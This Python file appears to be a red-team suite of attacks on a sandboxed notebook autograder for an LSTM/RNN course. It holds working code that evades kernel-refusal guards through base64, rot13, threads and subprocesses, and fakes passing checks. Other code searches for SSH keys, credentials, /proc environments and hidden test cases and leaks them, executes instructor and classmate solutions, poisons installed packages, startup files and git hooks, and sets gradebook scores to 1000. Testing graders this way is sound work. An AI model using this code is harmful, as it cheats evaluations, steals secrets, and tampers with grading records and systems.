            {"forget_gate": RUN_CELL_HOOKS}),
    _attack("settrace_rewrites_callers", "patch-checks",
            "A trace function makes every array argument of the grader's verdict-like functions equal to the "
            "first (so actual == expected) and booleans true, through PyFrame_LocalsToFast.",
            {"forget_gate": SETTRACE}),
    _attack("forge_record_files", "patch-checks",
            "Writes passing-looking records (npz, json) into every reachable folder and every inherited file "
            "descriptor, including the grader's result channel if it has one.",
            {"forget_gate": FORGE_RECORDS}),
    _attack("print_pass_lines", "patch-checks",
            "Prints pass lines, fake scores, ANSI escapes, invalid UTF-8 and NUL bytes and an nbgrader-like score "
            "display, at cell and call time.",
            {"forget_gate": PRINT_PASS}),
    _attack("import_hook_fakes_checks", "patch-checks",
            "A meta-path finder and a patched __import__ serve fake passing modules for any later import of a "
            "checking module (autograder, grading, sandbox, nbgrader...).",
            {"forget_gate": IMPORT_HOOK}),
    _attack("shadow_packages_files", "patch-checks",
            "Files beside the notebook: a fake autograder package, sitecustomize, usercustomize, "
            "nbgrader_config.py, numpy.py, an IPython start-up file, a near-name notebook and a fake records.npz.",
            {}, files=SHADOW_FILES),
]


# ===== undo-refusal: compute with the framework kernels the exercise asks to write =====

# An unrolled loop over whatever lstm_cell the attack defined (it never implements the cell itself).
FORWARD_OVER_CELL = _lstm_function("lstm_forward", r'''
if batch_first:
    x = x.transpose(0, 1)
state, outputs = state0, []
for x_t in x:
    state = lstm_cell(x_t, state, weight_ih, weight_hh, bias_ih, bias_hh)
    outputs.append(state[0])
output = torch.stack(outputs)
return (output.transpose(0, 1) if batch_first else output), tuple(state)
''')


def _kernel_attack(name, note, cell_source, kind="undo-refusal", forward=True):
    """An attack whose lstm_cell (and the unrolled lstm_forward over it) uses a framework kernel."""
    answers = {"lstm_cell": "import torch\n" + textwrap.dedent(cell_source).strip("\n") + "\n"}
    if forward:
        answers["lstm_forward"] = FORWARD_OVER_CELL
    return _attack(name, kind, note, answers)


UNDO_ATTACKS = [
    _kernel_attack("refusal_vf_direct", "Calls torch._VF.lstm_cell directly.", r'''
        def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
            return tuple(torch._VF.lstm_cell(x, tuple(state), weight_ih, weight_hh, bias_ih, bias_hh))
        '''),
    _kernel_attack("refusal_ops_aten", "Calls the aten operator torch.ops.aten.lstm_cell (and the fused "
                   "_thnn kernel as a fallback).", r'''
        def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
            try:
                h, c = torch.ops.aten.lstm_cell.default(x, list(state), weight_ih, weight_hh, bias_ih, bias_hh)
            except Exception:
                gates_x = torch.ops.aten.mm(x, weight_ih.t())
                gates_h = torch.ops.aten.mm(state[0], weight_hh.t())
                h, c, _ = torch.ops.aten._thnn_fused_lstm_cell(gates_x, gates_h, state[1], bias_ih, bias_hh)
            return h, c
        '''),
    _kernel_attack("refusal_disable_torch_function", "Keeps nn.LSTMCell.forward from before the grader "
                   "patches it and calls it with torch function handling (and so every mode) disabled.", r'''
        _original_forward = torch.nn.LSTMCell.forward  # captured when the cell runs, before any refusal


        def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
            with torch._C.DisableTorchFunction():
                cell = torch.nn.LSTMCell(weight_ih.shape[1], weight_hh.shape[1], dtype=x.dtype, device=x.device)
                for name, value in (("weight_ih", weight_ih), ("weight_hh", weight_hh),
                                    ("bias_ih", bias_ih), ("bias_hh", bias_hh)):
                    delattr(cell, name)
                    setattr(cell, name, value)  # the given tensors themselves, so gradients reach them
                return tuple(_original_forward(cell, x, tuple(state)))
        '''),
    _kernel_attack("refusal_pop_mode_stack", "Pops every TorchFunctionMode off the stack (the refusal guard "
                   "among them), calls torch.lstm_cell, and pushes them back.", r'''
        def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
            popped = []
            while torch._C._len_torch_function_stack() > 0:
                popped.append(torch._C._pop_torch_function_stack())
            try:
                return tuple(torch.lstm_cell(x, tuple(state), weight_ih, weight_hh, bias_ih, bias_hh))
            finally:
                for mode in reversed(popped):
                    torch._C._push_on_torch_function_stack(mode)
        '''),
    _kernel_attack("refusal_getattr_strings", "Reaches torch._C._VariableFunctions.lstm_cell and "
                   "DisableTorchFunction through getattr with names built from character codes.", r'''
        def _name(*codes):
            return "".join(map(chr, codes))


        _C = getattr(torch, _name(95, 67))                                         # torch._C
        _functions = getattr(_C, _name(95, 86, 97, 114, 105, 97, 98, 108, 101) + "Functions")
        _off = getattr(_C, "Disable" + "Torch" + "Function")


        def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
            with _off():
                return tuple(getattr(_functions, "lstm" + "_" + "cell")(
                    x, tuple(state), weight_ih, weight_hh, bias_ih, bias_hh))
        '''),
    _kernel_attack("refusal_importlib_rnn_module", "Imports torch.nn.modules.rnn with importlib and uses the "
                   "_VF it holds, with the mode stack cleared through torch.overrides internals.", r'''
        import importlib

        _rnn = importlib.import_module("torch.nn.modules" + ".rnn")
        _overrides = importlib.import_module("torch.overrides")


        def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
            with _overrides._pop_mode_temporarily() if torch._C._len_torch_function_stack() else torch.no_grad():
                return tuple(vars(_rnn)["_VF"].lstm_cell(x, tuple(state), weight_ih, weight_hh, bias_ih, bias_hh))
        '''),
    _kernel_attack("refusal_exec_base64", "Builds lstm_cell with exec of base64 text run through __import__ "
                   "(the text calls nn.LSTMCell's kernel with torch functions disabled).", r'''
        import base64

        _hidden_text = base64.b64encode(b"""
        def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
            torch = __import__("torch")
            with torch._C.DisableTorchFunction():
                return tuple(torch._VF.lstm_cell(x, tuple(state), weight_ih, weight_hh, bias_ih, bias_hh))
        """.replace(b"\\n        ", b"\\n"))
        exec(base64.b64decode(_hidden_text).decode(), globals())
        '''),
    _kernel_attack("refusal_compile_rot13", "Compiles rot13 text with compile() and eval(), so no kernel name "
                   "appears in the source.", r'''
        import codecs

        _code_object = compile(codecs.decode(
            "ynzoqn k, f, jv, ju, ov, ou: __vzcbeg__('gbepu')._IS.yfgz_pryy(k, ghcyr(f), jv, ju, ov, ou)",
            "rot13"), "<student>", "eval")
        _kernel = eval(_code_object)


        def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
            with getattr(torch._C, codecs.decode("QvfnoyrGbepuShapgvba", "rot13"))():
                return tuple(_kernel(x, state, weight_ih, weight_hh, bias_ih, bias_hh))
        '''),
    _kernel_attack("refusal_default_argument", "Hides the kernel and the switch that disables torch functions "
                   "in default arguments computed by a lambda at definition time.", r'''
        def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh,
                      _kernel=(lambda t: t._VF.lstm_cell)(__import__("torch")),
                      _quiet=(lambda t: t._C.DisableTorchFunction)(__import__("torch"))):
            with _quiet():
                return tuple(_kernel(x, tuple(state), weight_ih, weight_hh, bias_ih, bias_hh))
        '''),
    _kernel_attack("refusal_decorator", "A decorator replaces a stub-looking lstm_cell with a wrapper that "
                   "calls torch.lstm_cell with the modes popped.", r'''
        import functools


        def _optimised(stub):
            kernel = vars(torch)["lstm_cell"]

            @functools.wraps(stub)
            def wrapper(x, state, *weights):
                modes = []
                while torch._C._len_torch_function_stack():
                    modes.append(torch._C._pop_torch_function_stack())
                try:
                    return tuple(kernel(x, tuple(state), *weights))
                finally:
                    for mode in reversed(modes):
                        torch._C._push_on_torch_function_stack(mode)
            return wrapper


        @_optimised
        def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
            """(h_next, c_next) of one LSTM step, like torch.nn.LSTMCell."""
            raise NotImplementedError()
        '''),
    _kernel_attack("refusal_metaclass", "lstm_cell is a class whose metaclass __call__ runs the fused kernel "
                   "reached through torch.nn.modules.rnn.", r'''
        import torch.nn.modules.rnn as _rnn


        class _CellMeta(type):
            def __call__(cls, x, state, *weights):
                with _rnn.torch._C.DisableTorchFunction():
                    return tuple(_rnn._VF.lstm_cell(x, tuple(state), *weights))


        class lstm_cell(metaclass=_CellMeta):
            """(h_next, c_next) of one LSTM step, like torch.nn.LSTMCell."""
        '''),
    _kernel_attack("refusal_thread_escape", "Runs torch.lstm_cell in a new thread, where a thread-local "
                   "TorchFunctionMode guard does not reach.", r'''
        import threading


        def _in_thread(fn, *args):
            box = {}
            thread = threading.Thread(target=lambda: box.setdefault("out", fn(*args)))
            thread.start()
            thread.join()
            return box["out"]


        def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
            return tuple(_in_thread(torch.lstm_cell, x, tuple(state), weight_ih, weight_hh, bias_ih, bias_hh))
        '''),
    _kernel_attack("refusal_subprocess_escape", "Computes nn.LSTMCell in a fresh Python subprocess (no refusal "
                   "there) and reads the numbers back as JSON.", r'''
        import json, subprocess, sys

        _CHILD = """
        import json, sys, torch
        args = json.load(sys.stdin)
        t = lambda v: torch.tensor(v, dtype=torch.float64)
        cell = torch.nn.LSTMCell(len(args["w_ih"][0]), len(args["w_hh"][0]), dtype=torch.float64)
        with torch.no_grad():
            for name in ("weight_ih", "weight_hh", "bias_ih", "bias_hh"):
                getattr(cell, name).copy_(t(args[name[:1] + "_" + name.split("_")[1]]))
            h, c = cell(t(args["x"]), (t(args["h"]), t(args["c"])))
        json.dump([h.tolist(), c.tolist()], sys.stdout)
        """.replace("\\n        ", "\\n")


        def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
            args = {"x": x.tolist(), "h": state[0].tolist(), "c": state[1].tolist(), "w_ih": weight_ih.tolist(),
                    "w_hh": weight_hh.tolist(), "b_ih": bias_ih.tolist(), "b_hh": bias_hh.tolist()}
            done = subprocess.run([sys.executable, "-c", _CHILD], input=json.dumps(args), capture_output=True,
                                  text=True, timeout=120)
            h, c = json.loads(done.stdout)
            return (torch.tensor(h, dtype=x.dtype, device=x.device), torch.tensor(c, dtype=x.dtype, device=x.device))
        '''),
    _kernel_attack("refusal_torchscript", "Calls torch.lstm_cell from a TorchScript function (compiled when "
                   "the cell runs), whose calls bypass Python-level torch function modes.", r'''
        from typing import List


        @torch.jit.script
        def _scripted_cell(x, hx: List[torch.Tensor], w_ih, w_hh, b_ih, b_hh):
            return torch.lstm_cell(x, hx, w_ih, w_hh, b_ih, b_hh)


        def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
            return tuple(_scripted_cell(x, list(state), weight_ih, weight_hh, bias_ih, bias_hh))
        '''),
]

COURSE_REFERENCES = r'''
import importlib, threading
import torch

_references = dict(vars(importlib.import_module("autograder.checks.references")))
_forwards = {cls: cls.forward for cls in (torch.nn.LSTMCell, torch.nn.LSTM, torch.nn.RNNBase)}


def _unguarded(name, *args, **kwargs):
    for cls, forward in _forwards.items():  # undo the refusal's patches of the module forwards
        cls.forward = forward
    box = {}
    thread = threading.Thread(target=lambda: box.setdefault("out", _references[name](*args, **kwargs)))
    thread.start()
    thread.join()
    return box["out"]
'''

UNDO_ATTACKS += [
    _attack("refusal_course_references", "undo-refusal",
            "Captures the course's reference kernels (autograder.checks.references) and torch.nn's recurrent forwards "
            "when the cell runs; at call time restores the forwards the refusal patched and calls the captured "
            "references in a thread, out of reach of the thread-local mode.",
            {"cell_update": COURSE_REFERENCES + "\n\n\n" + _lstm_function("cell_update", "return _unguarded('cell_update', c, f, i, g)"),
             **{gid: _lstm_function(gid, f"return _unguarded({gid!r}, "
                                    + _lstm_function(gid, "").split("(", 1)[1].split(")")[0]
                                    .replace("batch_first=False", "batch_first=batch_first") + ")")
                for gid in ("lstm_cell", "lstm_forward")}}),
    _attack("precomputed_hidden_answers", "undo-refusal",
            "When the cell runs (no refusal yet), rebuilds the hidden cases from the installed package's "
            "seeds (and any grading.json found) and precomputes the references; each function then looks its "
            "inputs up in that table.",
            {"forget_gate": _code(FIND, r'''
import hashlib, json, os
import torch


def _key(args):
    digest = hashlib.sha256()
    for value in args:
        for tensor in (value if isinstance(value, (tuple, list)) else [value]):
            if isinstance(tensor, torch.Tensor):
                digest.update(tensor.detach().cpu().contiguous().numpy().tobytes())
            else:
                digest.update(repr(tensor).encode())
    return digest.hexdigest()


_ANSWERS = {}


def _precompute():
    try:
        from autograder.checks import cases, specs
    except Exception as error:
        print("PWNED-NAME: no hidden cases here:", error)
        return
    seeds = {getattr(cases, "DEFAULT_SEED", 0)}
    for path in _find(lambda p, b: b == "grading.json", seconds=20):
        try:
            seeds.update(int(v) for v in json.load(open(path)).values() if isinstance(v, int))
        except Exception:
            pass
    for check_id, spec in specs.SPECS.items():
        if not check_id.startswith("lstm."):
            continue
        for seed in seeds:
            for case in cases.hidden_cases(check_id, "cpu", seed):
                inputs = spec.make_inputs(case)
                _ANSWERS[(check_id, _key(list(inputs.values())))] = spec.reference(**inputs)


_precompute()


def _lookup(check_id, *args):
    answer = _ANSWERS.get((check_id, _key(args)))
    if answer is None:
        raise NotImplementedError()
    return answer
''') + "\n\n\n" + _lstm_function("forget_gate", 'return _lookup("lstm.forget_gate", x, h, W_if, W_hf, b_if, b_hf)'),
             **{gid: _lstm_function(gid, f"return _lookup('lstm.{gid}', "
                                    + _lstm_function(gid, "").split("(", 1)[1].split(")")[0]
                                    .replace("batch_first=False", "batch_first") + ")")
                for gid in LSTM_IDS[1:]}}),
    _attack("refusal_autograd_bptt", "undo-refusal",
            "rnn_bptt with autograd: pops the saved-tensor hooks and torch function modes the refusal pushes, "
            "and uses torch.autograd.grad captured before any patch.",
            {"rnn_bptt": r'''
import torch

_grad = torch.autograd.grad


def rnn_bptt(x, h0, weight_ih, weight_hh, bias_ih, bias_hh, grad_h_T):
    modes, hooks = [], []
    while torch._C._len_torch_function_stack():
        modes.append(torch._C._pop_torch_function_stack())
    while True:
        try:
            if torch._C._autograd._top_saved_tensors_default_hooks(False) is None:
                break
        except Exception:
            break
        hooks.append(torch._C._autograd._top_saved_tensors_default_hooks(False))
        torch._C._autograd._pop_saved_tensors_default_hooks()
    try:
        params = [p.detach().requires_grad_() for p in (weight_ih, weight_hh, bias_ih, bias_hh, h0)]
        h = params[4]
        for x_t in x:
            h = torch.tanh(x_t @ params[0].T + params[2] + h @ params[1].T + params[3])
        grads = _grad((h * grad_h_T).sum(), params)
        return tuple(g.detach() for g in grads)
    finally:
        for hook in reversed(hooks):
            torch._C._autograd._push_saved_tensors_default_hooks(*hook)
        for mode in reversed(modes):
            torch._C._push_on_torch_function_stack(mode)
'''}, assignment="rnn"),
    _attack("borrow_demo_bptt", "undo-refusal",
            "rnn_bptt and clip_grad_norm delegate to the course's demo package (rnn_demos.bptt.rnn_backward, "
            "clip_by_norm) instead of being written: a solution the course itself ships, which the exercise "
            "forbids (a policy for the grader to refuse or flag).",
            {"rnn_bptt": r'''
import torch
from rnn_demos import bptt as _demo


def rnn_bptt(x, h0, weight_ih, weight_hh, bias_ih, bias_hh, grad_h_T):
    weights = _demo.RNNWeights(W_ih=weight_ih, W_hh=weight_hh, b_ih=bias_ih, b_hh=bias_hh)
    states = _demo.rnn_forward(x, h0, weights)
    grad_states = torch.zeros_like(states[1:])
    grad_states[-1] = grad_h_T
    grads = _demo.rnn_backward(x, states, weights, grad_states)
    return grads.W_ih, grads.W_hh, grads.b_ih, grads.b_hh, grads.h0
'''}, assignment="rnn"),
    _attack("refusal_gru_class_call", "undo-refusal",
            "gru_cell is an instance of a class whose __call__ runs torch._VF.gru_cell in a worker thread "
            "(concurrent.futures); gru_forward loops over it.",
            {"gru_cell": r'''
import concurrent.futures
import torch


class _Cell:
    pool = concurrent.futures.ThreadPoolExecutor(1)

    def __call__(self, x, h, weight_ih, weight_hh, bias_ih, bias_hh):
        return self.pool.submit(getattr(torch, "_VF").gru_cell, x, h, weight_ih, weight_hh, bias_ih,
                                bias_hh).result()


gru_cell = _Cell()
''', "gru_forward": r'''
def gru_forward(x, h0, weight_ih, weight_hh, bias_ih, bias_hh, batch_first=False):
    if batch_first:
        x = x.transpose(0, 1)
    h, outputs = h0, []
    for x_t in x:
        h = gru_cell(x_t, h, weight_ih, weight_hh, bias_ih, bias_hh)
        outputs.append(h)
    output = torch.stack(outputs)
    return (output.transpose(0, 1) if batch_first else output), h
'''}, assignment="gru"),
]

UNDO_ATTACKS += [
    _attack("rnn_clip_captured_before_refusal", "undo-refusal",
            "clip_grad_norm delegates to torch.nn.utils.clip_grad_norm_ captured when the cell runs, before "
            "the refusal replaces it, on throwaway parameters.",
            {"clip_grad_norm": r'''
import torch

_clip = torch.nn.utils.clip_grad.clip_grad_norm_


def clip_grad_norm(grads, max_norm):
    holders = [torch.nn.Parameter(torch.zeros_like(g)) for g in grads]
    for holder, g in zip(holders, grads):
        holder.grad = g.clone()
    total = _clip(holders, max_norm)
    return [holder.grad for holder in holders], total
'''}, assignment="rnn"),
    _attack("rnn_jacobian_by_torch_func", "undo-refusal",
            "hidden_gradient_norms with torch.func.jacrev captured when the cell runs, evaluated in a worker "
            "thread where the saved-tensor hook and the mode of the refusal do not apply.",
            {"hidden_gradient_norms": r'''
import threading
import torch

_jacobian = torch.func.jacrev


def hidden_gradient_norms(x, h0, weight_ih, weight_hh, bias_ih, bias_hh):
    def last_state(h, start):
        for x_t in x[start:]:
            h = torch.tanh(weight_ih @ x_t + bias_ih + weight_hh @ h + bias_hh)
        return h

    def run():
        states, norms = [h0], []
        for x_t in x:
            states.append(torch.tanh(weight_ih @ x_t + bias_ih + weight_hh @ states[-1] + bias_hh))
        for t in range(len(states)):
            norms.append(torch.linalg.norm(_jacobian(last_state)(states[t], t)))
        box["out"] = torch.stack(norms)

    box = {}
    worker = threading.Thread(target=run)
    worker.start()
    worker.join()
    return box["out"]
'''}, assignment="rnn"),
]


# ===== read-secrets: read what the sandbox must not show, and leak it through every channel =====

def _exec_solutions_source(assignment, first_id, signature):
    return _code(LEAK, FIND, rf'''
import json, os
import torch


def _solutions():
    """Code of every solution cell of {assignment}.ipynb notebooks found on disk (sources, repository)."""
    found = _find(lambda p, b: b == "{assignment}.ipynb")
    chunks, sources = [], []
    for path in found:
        try:
            nb = json.load(open(path))
        except Exception:
            continue
        cells = ["".join(cell.get("source", "")) for cell in nb.get("cells", [])]
        if any("BEGIN SOLUTION" in text for text in cells):
            sources.append(path)
            chunks += [text for text in cells if "BEGIN SOLUTION" in text]
    _leak("solutions found in: " + "\n".join(sources))
    return chunks


for _chunk in _solutions():
    try:
        exec(_chunk, globals())  # the instructor's solution defines the graded functions
    except Exception as error:
        print("PWNED-NAME", error)
if "{first_id}" not in globals():
    def {first_id}({signature}):
        raise NotImplementedError()
''')


READ_SECRETS = _code(LEAK, FIND, r'''
import os
import torch

_NAMES = {"SECRET.txt", "grading.json", "gradebook.db", "nbgrader_config.py", "lstm.ipynb", "id_rsa",
          "shadow", "environ", ".git-credentials", "config"}


def _steal():
    found = _find(lambda p, b: b in _NAMES or "secret" in b.lower())
    text = "\n".join(f"== {path}\n{_read(path, 4000)}" for path in found[:300] if os.path.isfile(path))
    return _leak(text)


_STOLEN = _steal()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    _leak(_STOLEN)
    return _text_tensor(_STOLEN, (x.shape[0], W_if.shape[0]), x.dtype)


def lstm_param_count(input_size, hidden_size):
    raise RuntimeError(_STOLEN[:100000])
''')

READ_PROC = _code(LEAK, r'''
import glob, os


def _proc():
    parts = []
    for path in sorted(glob.glob("/proc/[0-9]*"))[:2000]:
        for name in ("environ", "cmdline"):
            try:
                with open(f"{path}/{name}", "rb") as handle:
                    parts.append(f"{path}/{name}: " + handle.read(4000).replace(b"\0", b" ").decode("utf-8", "replace"))
            except Exception:
                pass
        for name in ("cwd", "root", "exe"):
            try:
                target = os.readlink(f"{path}/{name}")
                parts.append(f"{path}/{name} -> {target}: {os.listdir(f'{path}/{name}')[:50]}")
            except Exception:
                pass
        try:
            for fd in os.listdir(f"{path}/fd")[:64]:
                parts.append(f"{path}/fd/{fd} -> {os.readlink(f'{path}/fd/{fd}')}")
        except Exception:
            pass
    for path in ("/proc/1/root", "/proc/1/root/work", "/proc/1/root/root", "/proc/self/mountinfo",
                 "/proc/self/status", "/proc/net/tcp", "/proc/net/unix", "/etc/passwd", "/sys/fs/cgroup"):
        try:
            parts.append(f"{path}: {os.listdir(path)[:200]}" if os.path.isdir(path) else
                         f"{path}: {open(path).read(20000)}")
        except Exception as error:
            parts.append(f"{path}: {error!r}")
    return "\n".join(parts)


_STOLEN = _leak(_proc())


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise PermissionError(_STOLEN[:100000])
''')

COPY_OTHER = _code(LEAK, FIND, r'''
import json, os


def _classmates():
    here = os.path.realpath(os.getcwd())
    found = _find(lambda p, b: b.endswith(".ipynb") and "lstm" in b and not p.startswith(here),)
    copied = []
    for path in found:
        try:
            nb = json.load(open(path))
        except Exception:
            continue
        for cell in nb.get("cells", []):
            text = "".join(cell.get("source", ""))
            if cell.get("cell_type") == "code" and "def " in text and "NotImplementedError" not in text:
                try:
                    exec(text, globals())
                    copied.append(path)
                except Exception:
                    pass
    _leak("copied from: " + "\n".join(sorted(set(copied))))


_classmates()
if "forget_gate" not in globals():
    def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
        raise NotImplementedError()
''')

READ_HIDDEN_CASES = _code(LEAK, FIND, r'''
import inspect, json, os, sys


def _hidden():
    parts = []
    for name in ("autograder.checks.cases", "autograder.checks.tolerances", "autograder.hidden", "autograder.checks.specs",
                 "autograder.checks.references", "autograder.grading"):
        try:
            module = __import__(name, fromlist=["_"])
            parts.append(f"== {name} ({module.__file__})\n{inspect.getsource(module)[:20000]}")
        except Exception as error:
            parts.append(f"== {name}: {error!r}")
    try:
        from autograder.checks import cases
        for check_id in ("lstm.forget_gate", "lstm.lstm_forward"):
            parts.append(repr(cases.hidden_cases(check_id, "cpu")))
    except Exception as error:
        parts.append(repr(error))
    for path in _find(lambda p, b: b in ("grading.json", "hidden_cases.json", "cases.json"), seconds=30):
        parts.append(f"== {path}\n{_read(path)}")
    parts.append(json.dumps(dict(os.environ)))
    return "\n".join(parts)


_STOLEN = _leak(_hidden())


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    return _text_tensor(_STOLEN, (x.shape[0], W_if.shape[0]), x.dtype)


def lstm_param_count(input_size, hidden_size):
    raise LookupError(_STOLEN[:100000])
''')

READ_ATTACKS = [
    _attack("exec_instructor_solutions", "read-secrets",
            "Finds the instructor's source notebook (solutions/, source/, /proc/1/root) and executes its "
            "solution cells, which would define every graded function.",
            {"forget_gate": _exec_solutions_source("lstm", "forget_gate", "x, h, W_if, W_hf, b_if, b_hf")}),
    _attack("sequence_models_exec_solutions", "read-secrets",
            "The same for the sequence models notebook.",
            {"ar_design_matrix": _exec_solutions_source("sequence_models", "ar_design_matrix", "x, tau")},
            assignment="sequence_models"),
    _attack("read_secret_files", "read-secrets",
            "Walks the file system for SECRET.txt, grading.json, gradebook.db, configs and keys, and leaks "
            "them to stdout, stderr, files, the notebook, the loopback service, returned values and exceptions.",
            {"forget_gate": READ_SECRETS, "lstm_param_count": "# defined in the forget_gate cell\n"}),
    _attack("read_proc", "read-secrets",
            "Reads /proc/*/environ, cmdline, cwd, root and fd links, /proc/1/root, mounts and cgroups, and "
            "leaks them.",
            {"forget_gate": READ_PROC}),
    _attack("copy_other_submission", "read-secrets",
            "Finds other students' lstm notebooks (submitted/, autograded/) and executes their answer cells.",
            {"forget_gate": COPY_OTHER}),
    _attack("read_hidden_cases_package", "read-secrets",
            "Imports the hidden cases, tolerances and references from the installed package, reads any "
            "grading.json and the environment, and leaks them (returned as tensor values too).",
            {"forget_gate": READ_HIDDEN_CASES, "lstm_param_count": "# defined in the forget_gate cell\n"}),
]


# ===== write-course and write-gradebook and write-other-submission =====

APPEND_PACKAGES = _code(LEAK, r'''
import importlib, os

_POISON = """

# PWNED-NAME: appended by a submission
def grade(check_id, fn, *args, **kwargs):
    print("ok: " + str(check_id) + " PWNED-NAME")
    return True


check = run_check = judge = assess = grade
"""


def _poison_packages():
    written = []
    for package in ("autograder", "rnn_demos", "nbgrader"):
        try:
            folder = os.path.dirname(importlib.import_module(package).__file__)
        except Exception:
            continue
        targets = [os.path.join(folder, "__init__.py")]
        if package != "nbgrader":
            targets += [os.path.join(root, f) for root, _, files in os.walk(folder) for f in files if f.endswith(".py")]
        for target in targets:
            try:
                with open(target, "a") as out:
                    out.write(_POISON)
                written.append(target)
            except Exception:
                pass
        try:
            with open(os.path.join(folder, "PWNED-NAME.py"), "w") as out:
                out.write(_POISON)
            written.append(folder)
        except Exception:
            pass
    _leak("poisoned: " + "\n".join(written))


_poison_packages()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    _poison_packages()
    raise NotImplementedError()
''')

WRITE_SITE = _code(LEAK, r'''
import os, site, sys, sysconfig

_LINE = ("import os; open(os.path.join(os.path.expanduser('~'), 'PWNED-NAME-pth-ran'), 'a').write('PWNED-NAME')"
         "  # PWNED-NAME\n")


def _write_site():
    folders = set()
    try:
        folders.update(site.getsitepackages())
        folders.add(site.getusersitepackages())
    except Exception:
        pass
    folders.update(p for p in sys.path if p and os.path.isdir(p))
    folders.update(sysconfig.get_paths().values())
    written = []
    for folder in sorted(folders):
        for base, text in (("PWNED-NAME.pth", _LINE), ("sitecustomize.py", _LINE.split("  #")[0] + "\n# PWNED-NAME\n"),
                           ("usercustomize.py", _LINE.split("  #")[0] + "\n# PWNED-NAME\n")):
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, base), "a") as out:
                    out.write(text)
                written.append(os.path.join(folder, base))
            except Exception:
                pass
    _leak("wrote: " + "\n".join(written))


_write_site()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

WRITE_STARTUP = _code(LEAK, r'''
import os, sys

_STARTUP = "print('PWNED-NAME startup ran')\nimport builtins\nbuiltins.PWNED = 'PWNED-NAME'\n"
_CONFIGS = {
    ".ipython/profile_default/startup/00-PWNED-NAME.py": _STARTUP,
    ".ipython/profile_default/ipython_config.py": "c.InteractiveShellApp.exec_lines = ['print(\"PWNED-NAME\")']\n",
    ".ipython/profile_default/ipython_kernel_config.py": "c.InteractiveShellApp.exec_lines = ['print(\"PWNED-NAME\")']\n",
    ".jupyter/nbgrader_config.py": "# PWNED-NAME\nc = get_config()\nc.Execute.timeout = 100000\n",
    ".jupyter/jupyter_nbconvert_config.py": "# PWNED-NAME\n",
    ".config/matplotlib/matplotlibrc": "# PWNED-NAME\nbackend: agg\n",
}


def _write_startup():
    homes = {os.path.expanduser("~"), "/root", os.environ.get("IPYTHONDIR", "/nonexistent/.."),
             os.environ.get("JUPYTER_CONFIG_DIR", "/nonexistent/.."), sys.prefix, "/tmp", "/etc", "/usr/local"}
    written = []
    for home in homes:
        for relative, text in _CONFIGS.items():
            path = os.path.join(home, relative)
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "a") as out:
                    out.write(text + "# PWNED-NAME\n")
                written.append(path)
            except Exception:
                pass
    for folder in ("/etc/jupyter", "/usr/local/etc/jupyter", os.path.join(sys.prefix, "etc", "jupyter"),
                   "/etc/ipython"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "nbgrader_config.py"), "a") as out:
                out.write("# PWNED-NAME\n")
            written.append(folder)
        except Exception:
            pass
    _leak("wrote: " + "\n".join(written))


_write_startup()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

WRITE_REPOSITORY = _code(LEAK, FIND, r'''
import importlib, os, stat


def _repositories():
    roots = set()
    for package in ("autograder", "rnn_demos"):
        try:
            folder = os.path.dirname(importlib.import_module(package).__file__)
            roots.add(os.path.dirname(folder))
        except Exception:
            pass
    roots.update(os.path.dirname(p) for p in _find(lambda p, b: b == ".git", seconds=30))
    return sorted(roots)


def _write_repositories():
    written = []
    for root in _repositories():
        for relative in ("PWNED-NAME.txt", "autograder/PWNED-NAME.txt", "tests/PWNED-NAME.txt"):
            try:
                with open(os.path.join(root, relative), "w") as out:
                    out.write("PWNED-NAME\n")
                written.append(os.path.join(root, relative))
            except Exception:
                pass
        for relative in ("autograder/hidden.py", "Makefile", "README.md"):
            try:
                with open(os.path.join(root, relative), "a") as out:
                    out.write("\n# PWNED-NAME\n")
                written.append(os.path.join(root, relative))
            except Exception:
                pass
        hook = os.path.join(root, ".git", "hooks", "post-commit")
        try:
            with open(hook, "x") as out:
                out.write("#!/bin/sh\necho PWNED-NAME > /tmp/PWNED-NAME-git-hook\n")
            os.chmod(hook, stat.S_IRWXU)
            written.append(hook)
        except Exception:
            pass
    _leak("wrote: " + "\n".join(written))


_write_repositories()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

GRADEBOOK_REWRITE = _code(LEAK, FIND, r'''
import os, sqlite3


def _databases():
    here = os.getcwd()
    near = [os.path.join(here, *([".."] * up), "gradebook.db") for up in range(6)]
    far = _find(lambda p, b: b.endswith((".db", ".sqlite", ".sqlite3")))
    return [p for p in near + far if os.path.isfile(p)]


def _rewrite():
    done = []
    for path in _databases():
        try:
            con = sqlite3.connect(path, timeout=5)
            tables = {row[0] for row in con.execute("select name from sqlite_master where type='table'")}
            if "grade" not in tables and not os.path.basename(path).startswith("gradebook"):
                con.close()
                continue  # not a gradebook: leave it alone
            if "grade" in tables:
                con.execute("update grade set manual_score = 1000, extra_credit = 1000")
            if "comment" in tables:
                con.execute("update comment set manual_comment = 'PWNED-NAME'")
            done.append((path, sorted(tables), con.execute("select * from grade").fetchall()[:100]
                         if "grade" in tables else []))
            con.execute("create table if not exists pwned (marker text)")
            con.execute("insert into pwned values ('PWNED-NAME')")
            con.commit()
            con.close()
        except Exception as error:
            done.append((path, repr(error)))
    _leak(done)


